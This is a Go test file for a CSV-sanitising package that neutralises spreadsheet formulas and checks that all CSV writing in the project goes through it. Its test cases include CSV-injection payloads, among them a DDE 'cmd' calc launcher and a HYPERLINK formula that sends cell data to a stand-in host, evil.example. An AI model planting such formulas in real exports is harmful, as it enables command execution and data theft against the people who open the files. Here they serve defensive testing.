package safecsv_test

import (
	"bytes"
	"encoding/csv"
	"go/ast"
	"go/parser"
	"go/token"
	"io/fs"
	"path/filepath"
	"strings"
	"testing"

	"github.com/keyward/keyward/internal/safecsv"
)

// TestCellNeutralisesFormulas: every cell a spreadsheet would evaluate
// gets a leading quote; every other cell is untouched.
func TestCellNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, want string }{
		{"=cmd|'/Ccalc'!A0@example.com", "'=cmd|'/Ccalc'!A0@example.com"},
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"\n=1", "'\n=1"},
		{"  =1+1", "'  =1+1"},
		{"\u00a0@x", "'\u00a0@x"},
		{"\uff1d1+1", "'\uff1d1+1"},
		{"", ""},
		{"   ", "   "},
		{"a@example.com", "a@example.com"},
		{"ord_01HZ", "ord_01HZ"},
		{"2026-12-06T22:30:00Z", "2026-12-06T22:30:00Z"},
		{`{"email":"=x"}`, `{"email":"=x"}`},
		{"1-2", "1-2"},
	} {
		if got := safecsv.Cell(c.in); got != c.want {
			t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestWriterWritesNeutralisedCells: what the Writer writes reads back as
// the neutralised cells, quoting intact.
func TestWriterWritesNeutralisedCells(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	w := safecsv.NewWriter(&buf)
	if err := w.Write([]string{"=1+1", "plain", "a,\"b\""}); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	rec, err := csv.NewReader(&buf).Read()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(rec, "|") != "'=1+1|plain|a,\"b\"" {
		t.Fatalf("read back %q", rec)
	}
}

// TestEveryCSVWriterGoesThroughSafecsv: no code of keyward but this
// package makes an encoding/csv writer, so no CSV it writes skips Cell.
func TestEveryCSVWriterGoesThroughSafecsv(t *testing.T) {
	t.Parallel()
	root, err := filepath.Abs("../..")
	if err != nil {
		t.Fatal(err)
	}
	checked := 0
	err = filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && (strings.HasPrefix(d.Name(), ".") || d.Name() == "testdata" || d.Name() == "node_modules") && path != root {
			return filepath.SkipDir
		}
		if d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return nil
		}
		rel, _ := filepath.Rel(root, path)
		if filepath.Dir(rel) == filepath.Join("internal", "safecsv") {
			return nil
		}
		checked++
		f, err := parser.ParseFile(token.NewFileSet(), path, nil, 0)
		if err != nil {
			return err
		}
		name := ""
		for _, imp := range f.Imports {
			if imp.Path.Value == `"encoding/csv"` {
				name = "csv"
				if imp.Name != nil {
					name = imp.Name.Name
				}
			}
		}
		if name == "" || name == "_" {
			return nil
		}
		if name == "." {
			t.Errorf("%s dot-imports encoding/csv: use internal/safecsv", rel)
			return nil
		}
		ast.Inspect(f, func(n ast.Node) bool {
			if sel, ok := n.(*ast.SelectorExpr); ok {
				if id, ok := sel.X.(*ast.Ident); ok && id.Name == name && sel.Sel.Name == "NewWriter" {
					t.Errorf("%s writes CSV with encoding/csv: use internal/safecsv", rel)
					return false
				}
			}
			return true
		})
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if checked < 100 {
		t.Fatalf("only %d files checked: is the module root right?", checked)
	}
}
